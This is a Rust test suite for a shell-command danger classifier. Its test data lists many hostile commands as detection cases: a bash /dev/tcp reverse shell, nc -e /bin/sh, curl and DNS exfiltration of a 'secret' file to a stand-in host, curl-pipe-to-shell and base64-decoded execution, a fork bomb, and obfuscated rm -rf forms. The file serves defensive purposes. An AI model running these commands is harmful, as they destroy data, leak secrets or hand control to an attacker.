//! The danger gate: which commands it speaks up for, and which it leaves alone.

use commander::danger::{Family, of_command, of_script};

fn families(script: &str) -> Vec<Family> {
    of_script(script)
        .into_iter()
        .map(|danger| danger.family)
        .collect()
}

fn expect(family: Family, scripts: &str) {
    let missed: Vec<&str> = scripts
        .lines()
        .map(str::trim)
        .filter(|script| !script.is_empty() && !families(script).contains(&family))
        .collect();
    assert!(missed.is_empty(), "not {}: {missed:#?}", family.word());
}

#[test]
fn removing_is_seen() {
    expect(
        Family::Removes,
        r#"
        rm notes.txt
        rm -rf build
        \rm -rf build
        r''m -rf build
        /bin/rm x
        sudo rm -rf /var/log/old
        sudo -u www env A=b nice -n 5 rm x
        timeout 5 rm x
        sh -c 'rm -rf x'
        bash -lc "cd /tmp && rm -rf x"
        find . -name '*.o' -delete
        find . -exec rm {} \;
        ls | xargs rm
        ls | xargs -I{} sh -c 'rm {}'
        git rm old.c
        for f in *; do rm $f; done
        x=$(rm -rf y)
        ssh host rm -rf x
        ssh -p 22 me@host 'cd x && rm -rf y'
        docker exec -it web rm -rf /data
        docker exec db psql -c 'DROP TABLE x'
        docker system prune -af
        docker compose down -v
        kubectl delete pod x
        terraform destroy
        aws s3 rm s3://b --recursive
        aws ec2 terminate-instances --instance-ids i-1
        gh repo delete x
        psql -c 'drop table users'
        sqlite3 a.db "DELETE FROM users"
        redis-cli FLUSHALL
        python3 -c "import shutil; shutil.rmtree('x')"
        perl -e 'system("rm -rf x")'
        node -e "require('fs').rmSync('x')"
        python -c 'import subprocess; subprocess.run(["rm","-rf","x"])'
        awk 'BEGIN { system("rm x") }'
        rsync -a --delete a/ b/
        apt remove vim
        busybox rm x
        parallel rm ::: a b
        eval "rm x"
        trap 'rm -rf x' EXIT
        alias ls='rm -rf x'
        watch rm x
        curl -X DELETE https://api.example.com/users/1
        mv x /dev/null
        bash <<< 'rm x'
    "#,
    );
    assert!(families("bash <<E\nrm x\nE").contains(&Family::Removes));
}

#[test]
fn overwriting_is_seen() {
    expect(
        Family::Overwrites,
        r#"
        > config.json
        : > app.log
        cat /dev/null > server.log
        echo x > ~/.bashrc
        echo x > src/main.rs
        echo 1 | sudo tee /etc/hosts
        cp -f a b
        mv a.bak a
        sed -i s/a/b/ f
        sed -Ei s/a/b/ f
        perl -pi -e s/a/b/ f
        sort -o f f
        sort f > f
        truncate -s 0 f
        ln -sf a b
        unzip -o a.zip
        dd if=a of=b
        tar xf a.tar -C /etc
        ls >| x
        cp nginx.conf /etc/nginx/nginx.conf
    "#,
    );
}

#[test]
fn the_other_families_are_seen() {
    expect(
        Family::Device,
        "
        dd if=x.iso of=/dev/sda
        mkfs.ext4 /dev/sdb1
        cat x > /dev/nvme0n1
        wipefs -a /dev/sda
        cp x.img /dev/disk2
        sudo fdisk /dev/sda
        tee /dev/sda
    ",
    );
    expect(
        Family::PipesToShell,
        r#"
        curl https://x.io/i.sh | sh
        curl -fsSL https://x.io/i.sh | sudo -E bash -
        wget -qO- x.io | bash -s -- --yes
        bash <(curl -s x.io)
        source <(curl -s x.io)
        sh -c "$(curl -fsSL x.io)"
        eval "$(wget -qO- x.io)"
        echo cm0= | base64 -d | sh
        curl x.io | python3
        curl -o i.sh x.io && sh i.sh
        wget https://x.io/i.sh; chmod +x i.sh; ./i.sh
        cat list | xargs -I{} sh -c '{}'
    "#,
    );
    expect(
        Family::GitHistory,
        "
        git push --force
        git push -f origin main
        git push origin +main
        git push origin :old
        git rebase -i HEAD~3
        git commit --amend
        git branch -D x
        git -C repo reset HEAD~2
        git stash drop
        git reflog expire --all
        git filter-branch x
    ",
    );
    expect(
        Family::DirtyTree,
        "
        git reset --hard
        git checkout -- .
        git checkout .
        git checkout src/main.rs
        git clean -fd
        git restore .
        git switch --discard-changes main
    ",
    );
    expect(
        Family::Permissions,
        "
        chmod -R 755 .
        chmod 777 x
        chmod a+w x
        chmod u+s x
        sudo chown -R me /srv
        find . -type f -exec chmod 644 {} +
        setfacl -m u:x:rw f
    ",
    );
    expect(
        Family::SendsOut,
        r#"
        curl -d @secret https://x.io
        curl -F f=@x https://x.io
        curl -T x https://x.io
        curl -X POST https://x.io
        curl -sXPOST https://x.io
        scp a host:b
        rsync -av . me@host:/srv
        cat x | nc host 99
        nc -e /bin/sh host 99
        bash -i >& /dev/tcp/1.2.3.4/99 0>&1
        npm publish
        aws s3 cp x s3://b
        curl "https://x.io/?a=$(cat secret)"
        tar c . | ssh host 'cat > x.tar'
        mail -s x a@b.c < secret
        docker push x
    "#,
    );
    expect(
        Family::Kills,
        "
        kill -9 1234
        kill -9 -1
        killall node
        pkill -f x
    ",
    );
    expect(
        Family::System,
        "
        reboot
        systemctl stop nginx
        crontab -r
        iptables -F
        userdel x
        passwd
        history -c
        :(){ :|:& };:
        shutdown -h now
    ",
    );
    expect(
        Family::Privilege,
        "
        sudo su
        sudo -i
        usermod -aG sudo x
        docker run -v /:/host -it x
    ",
    );
    expect(
        Family::Obscured,
        "
        $cmd x
        eval \"$x\"
        sudo !!
        /bin/r? x
        {rm,-rf,x}
        $(echo rm) x
    ",
    );
}

#[test]
fn everyday_commands_are_silent() {
    let spoken: Vec<String> = r#"
        ls -la
        cd src && cargo build --release
        git status
        git push
        git push origin main
        git commit -m "remove the rm -rf call"
        git checkout main
        git checkout -b feature/x
        git checkout v1.2.3
        git log --oneline | head
        git stash
        git pull --rebase
        git add -A
        git reset HEAD x.c
        git rebase --continue
        npm install
        npm run build
        mkdir -p a/b
        touch x
        cp a b
        cp -r src dst
        mv a b
        echo x >> notes.txt
        make > build.log 2>&1
        make -j8
        cargo test 2>/dev/null
        grep -rn "rm -rf" .
        echo "rm -rf /"
        curl https://example.com
        curl -O https://example.com/a.tar.gz
        curl -sSL -o a.tgz https://example.com/a.tgz
        curl -H 'Accept: x' https://example.com | jq .
        wget https://example.com/a.zip
        chmod +x script.sh
        chmod 600 ~/.ssh/id_rsa
        kill 1234
        docker ps -a
        docker run --rm -it ubuntu bash
        docker build -t x .
        docker logs -f web
        kubectl get pods
        ssh host
        ssh host uptime
        scp host:a .
        tar xzf a.tar.gz
        tar czf a.tgz src
        find . -name '*.rs' | xargs wc -l
        find . -type f -exec grep -l x {} +
        sed -n 1,5p f
        sed 's/i/j/' f
        sort f | uniq -c
        python3 -m venv .venv
        python3 -c 'print(1)'
        python3 script.py
        cat x.json | python3 -m json.tool
        ps aux | grep node
        systemctl status nginx
        sudo apt update
        sudo apt install -y vim
        crontab -l
        iptables -L
        psql -c 'SELECT * FROM users'
        redis-cli GET x
        aws s3 ls
        terraform plan
        for i in 1 2 3; do echo $i; done
        export PATH="$HOME/bin:$PATH"
        $EDITOR x
        eval "$(ssh-agent -s)"
        [ -f x ] && echo yes
        while read -r l; do echo "$l"; done < x
        rsync -av a/ b/
        dd if=/dev/zero of=/dev/null count=1
        awk '{print $1}' f
        test -d x || mkdir x
    "#
    .lines()
    .map(str::trim)
    .filter(|script| !families(script).is_empty())
    .map(|script| format!("{script}: {:?}", of_script(script)))
    .collect();
    assert!(spoken.is_empty(), "{spoken:#?}");
}

#[test]
fn what_the_same_line_sets_is_put_in() {
    expect(
        Family::Removes,
        r#"
        a=kube; b=ctl; $a$b delete ns x
        c='rm -rf'; $c x
        export v=rm; sudo "$v" x
        rm${IFS}-r${IFS}x
        rm$IFS-r$IFS$HOME
        ${SUDO} rm x
        r$@m x
        ru=redis; "${ru}-cli" flushall
    "#,
    );
    expect(
        Family::Overwrites,
        r#"
        d=/etc; echo x > "$d/hosts"
        p=/etc/cron; p+=tab; cat x >| $p
    "#,
    );
    expect(Family::System, "s=system; c=ctl; $s$c stop x");
    expect(
        Family::SendsOut,
        "o=data; curl --${o}-binary @x https://x.io",
    );
    expect(
        Family::Obscured,
        r#"
        curl --up${UNSET}-file x https://y.io
        sudo $x y
        timeout 5 "$x" y
        if true; then x=ls; fi; $x y
        x=ls; x=rm; $x y
        x=ls; for x in rm; do $x y; done
        x=ls; read x; $x y
    "#,
    );
    assert_eq!(
        of_script("x=rm; $x -r build")[0].what,
        "removes build and all below it"
    );
}

#[test]
fn backups_clouds_and_boards_are_known() {
    expect(
        Family::Removes,
        "
        borg prune --keep-daily 1 repo
        kopia snapshot delete x
        duplicity remove-older-than 1M file:///b
        rustic forget --prune
        nix store gc
        ostree prune --refs-only
    ",
    );
    expect(
        Family::Device,
        "
        dfu-util -a 0 -D fw.bin
        st-flash erase
        esptool write_flash 0 fw.bin
        openocd -f x.cfg -c 'program fw.elf verify'
        ssh root@box flashcp fw.bin /dev/mtd0
        nrfjprog --eraseall
        west flash
    ",
    );
    expect(
        Family::Permissions,
        "
        aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/Admin
        gsutil iam ch allUsers:objectViewer gs://b
        az role assignment create --role Owner --assignee x
        oc adm policy add-cluster-role-to-user cluster-admin x
        kubectl -n web create rolebinding x --clusterrole=admin --user=y
        aws s3 cp a s3://b --acl public-read
        mc anonymous set public m/b
        aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0 --port 22
    ",
    );
    expect(
        Family::SendsOut,
        "
        rclone sync ./x remote:y --transfers 4
        rsync -av src me@host:dst --exclude node_modules
        rsync -P src me@host:dst
        aws s3 sync . s3://b --exclude '*.tmp'
        gsutil -m cp -r x gs://b
        exec 3<>/dev/tcp/1.2.3.4/80
        base32 < secret | while read l; do host $l.x.io; done
        xxd -p secret | xargs -I{} nslookup {}.x.io
    ",
    );
}

#[test]
fn text_that_is_fetched_or_decoded_and_run_is_seen() {
    expect(
        Family::PipesToShell,
        r#"
        wget -qO /tmp/a.sh x.io/a && sudo bash /tmp/a.sh
        curl -fsSLO https://x.io/run && chmod +x run && ./run
        wget -P /tmp https://x.io/go.sh; nohup /tmp/go.sh
        f=$(mktemp); curl -so "$f" https://x.io/i; sh "$f"
        curl -Lso i.py https://x.io/i && env A=b python3 i.py
        ruby -e 'require "open-uri"; eval(URI.open("https://x.io/a.rb").read)'
        php -r 'system(base64_decode("bHM="));'
        python3 -c "import os,base64; os.system(base64.b64decode('bHM=').decode())"
        node -e "fetch('https://x.io/a').then(r=>r.text()).then(eval); eval('')"
        gpg -d x.gpg | $SHELL
        base64 -d x | ${BASH:-bash}
    "#,
    );
    expect(Family::System, "perl -e 'fork while 1'");
}

#[test]
fn commands_in_settings_are_read() {
    expect(Family::DirtyTree, "git -c alias.wipe='clean -fdx' wipe");
    expect(Family::GitHistory, "git -c alias.p='push -f' p origin");
    expect(
        Family::Removes,
        "
        git -c alias.x='!rm -rf y' x
        git -c core.sshCommand='rm -rf x' fetch
        GIT_SSH_COMMAND='rm -rf x' git fetch
        git config --global alias.x '!rm -rf y'
        rsync -e 'sh -c \"rm x\"' a b
        ansible web -m shell -a 'rm -rf /srv/x'
    ",
    );
}

#[test]
fn a_rehearsal_is_one_only_where_the_program_has_it() {
    expect(
        Family::Removes,
        r#"
        rm --dry-run x
        kubectl delete pod x --dry-run=none
        kubectl -n get delete pods x
        psql -c "select 'x'; DROP TABLE y"
        psql -c "do 'begin drop table x; end'"
        mysql -e "select \"it's\"; drop table x; select \"it's\""
        make clean -C n
    "#,
    );
    expect(Family::DirtyTree, "git -C push reset --hard -n");
    expect(
        Family::SendsOut,
        "
        npm publish --dry-run --no-dry-run
        rsync -av -e 'ssh -n' a host:b
    ",
    );
    expect(
        Family::Kills,
        "kill -s KILL 12\nkill -9 $(cat x.pid)\nkill -HUP -1\npkill -x node",
    );
}

#[test]
fn what_only_asks_tells_or_quotes_is_silent() {
    let spoken: Vec<String> = r#"
        echo $(date -Iseconds) done
        date -u +%s
        date -d yesterday +%F
        git push -n --force
        git clean --dry-run -d
        cargo publish --dry-run
        apt-get -s dist-upgrade
        make -n clean
        rclone sync a b:c --dry-run
        rsync -an --delete a/ host:b/
        terraform plan -destroy -out=x
        oc auth can-i delete secrets -n x
        gh api repos/x/y
        command -v reboot
        command -V rm
        sudo -l /sbin/reboot
        mysql -e "SELECT * FROM log WHERE q = 'DELETE FROM users'"
        kill -HUP $(pidof nginx)
        pkill -USR2 unicorn
        ansible web -m setup
        ansible all -a uptime
        echo 'b(){ b|b& };b'
        ls # b(){ b|b& };b and !!
        aws s3api put-bucket-acl --bucket x --acl private
        aws s3 cp s3://b/x . --profile p
        rclone copy remote:x ./y --transfers 4
        rsync -P host:a .
        x=5; echo $x
        n=web; ssh $n uptime
        dir=/tmp/x; cd "$dir" && ls
        for d in $(cat domains.txt); do dig +short $d; done
        curl -o a.tgz https://x.io/a.tgz && sudo tar xzf a.tgz
        curl -Lo a.html https://x.io && cat a.html
        git config alias.st status
        git -c core.pager=cat log
        GIT_EDITOR=true git rebase --continue
        python3 -c "import requests; print(requests.get('https://x.io').text)"
        ${EDITOR:-vi} notes.md
        ${CC:-cc} -o x x.c
        printf 'run %s\n' '{rm,-rf,x}'
    "#
    .lines()
    .map(str::trim)
    .filter(|script| !families(script).is_empty())
    .map(|script| format!("{script}: {:?}", of_script(script)))
    .collect();
    assert!(spoken.is_empty(), "{spoken:#?}");
}

#[test]
fn a_danger_names_its_thing() {
    let dangers = of_script("cd x && rm -rf build");
    assert_eq!(dangers.len(), 1);
    assert_eq!(dangers[0].what, "removes build and all below it");
    assert_eq!(dangers[0].text, "rm -rf build");
    assert_eq!(dangers[0].family.sentence(), "It removes something.");
}

#[test]
fn a_program_with_arguments_is_read_without_a_shell() {
    let args = |args: &[&str]| args.iter().map(|arg| (*arg).to_owned()).collect::<Vec<_>>();
    assert_eq!(of_command("echo", &args(&["> x", "; rm y"])), []);
    assert_eq!(of_command("rm", &args(&["a b"]))[0].what, "removes a b");
    assert_eq!(
        of_command("/usr/bin/env", &args(&["sh", "-c", "rm x"])).len(),
        1
    );
    assert_eq!(of_command("", &[]), []);
}

#[test]
fn nesting_has_an_end() {
    let mut script = "rm x".to_owned();
    script.insert_str(0, &"eval ".repeat(2_000));
    assert!(!of_script(&script).is_empty());
    assert!(!of_script(&"sudo ".repeat(10_000)).is_empty());
    let many = "rm x; ".repeat(5_000);
    assert!(of_script(&many).len() <= 64);
    assert!(!of_script(&"a".repeat(70_000)).is_empty());
}

#[test]
fn no_text_makes_it_panic() {
    let pieces = [
        "rm",
        "-",
        "--",
        " ",
        " ",
        "'",
        "\"",
        "$(",
        ")",
        "`",
        "|",
        "&&",
        ";",
        ">",
        "<(",
        "\\",
        "é",
        "sh -c ",
        "sudo ",
        "xargs ",
        "git ",
        "-c",
        "find ",
        "-exec ",
        "!",
        "python -c ",
        "(){",
        "=",
        "eval ",
        "ssh ",
        "docker run ",
        "awk ",
        "curl ",
        "-o",
        "\n",
        "<<E\n",
        "E\n",
        "/dev/sda",
    ];
    let mut state = 5_u64;
    for _ in 0..3_000 {
        let mut script = String::new();
        for _ in 0..12 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            let index = usize::try_from(state >> 33).unwrap_or(0) % pieces.len();
            script.push_str(pieces[index]);
        }
        let _ = of_script(&script);
    }
}

#[test]
fn no_text_keeps_it_busy() {
    let pieces = [
        "a;",
        "a ",
        "a|",
        "rm x; ",
        "eval ",
        "sudo ",
        "find -exec ",
        "fd -x ",
        "xargs ",
        "> x ",
        "a > x ",
        "a=b ",
        "a=b; ",
        "x=$x$x; ",
        "$x$x ",
        "${",
        "${a:-",
        "$(",
        "$(a|",
        "`",
        "\"",
        "'",
        "\\",
        "((",
        "[[ ",
        "{a,",
        "<(",
        "<<E\n",
        "case x in ",
        "if ",
        "for x in ",
        "f(){ ",
        "bash -c \"",
        "sh -c 'sh -c ",
        "python -c '!",
        "python -c \"exec('",
        "awk '!system(`",
        "node -e \"x`!",
        "vim -c '!",
        "perl -e `'\"",
        "git -c alias.a='",
        "git submodule foreach ",
        "git bisect run ",
        "ssh h ",
        "docker run ",
        "docker exec -it sh -c ",
        "trap 'rm' ",
        "alias a=",
        "curl a/b ",
        "curl a/b;sh ",
        "psql -c 'drop ",
        "ansible -a '",
        "tmux 'a b' ",
        "watch 'eval ",
        "parallel 'a",
        "kill -",
        "\u{e9}",
        "\u{202e}",
        "\0",
        "\u{1}",
        "\u{feff}",
        "\u{7f}",
        "\u{a0}",
        "!!",
        "#",
        "\r",
    ];
    let mut slow = Vec::new();
    for piece in pieces {
        let script = piece.repeat(65_000 / piece.len());
        let begun = std::time::Instant::now();
        let found = of_script(&script);
        let took = begun.elapsed();
        assert!(found.len() <= 64);
        if took.as_millis() > 700 {
            println!("{piece:?}: {took:?}");
        }
        // The reading itself is bounded by counting; the bound here leaves room for a busy machine.
        if took.as_secs() >= 8 {
            slow.push(format!("{piece:?}: {took:?}"));
        }
    }
    assert!(slow.is_empty(), "{slow:#?}");
}
